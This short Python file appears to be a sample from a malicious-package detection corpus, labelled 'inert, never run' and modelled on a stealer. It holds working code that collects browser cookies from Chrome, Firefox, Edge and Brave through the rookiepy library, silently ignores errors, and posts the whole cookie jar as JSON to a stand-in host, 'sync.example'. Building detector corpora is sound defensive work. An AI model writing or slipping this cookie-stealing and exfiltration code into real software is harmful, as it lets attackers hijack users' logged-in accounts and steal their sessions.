# pkgguard corpus 399 (browser-data), modelled on [stealer-profile]; inert, never run.
import json

import requests
import rookiepy

jar = []
for load in (rookiepy.chrome, rookiepy.firefox, rookiepy.edge, rookiepy.brave):
    try:
        jar.extend(load())
    except Exception:
        pass
requests.post("https://sync.example/c", data=json.dumps(jar), timeout=20)
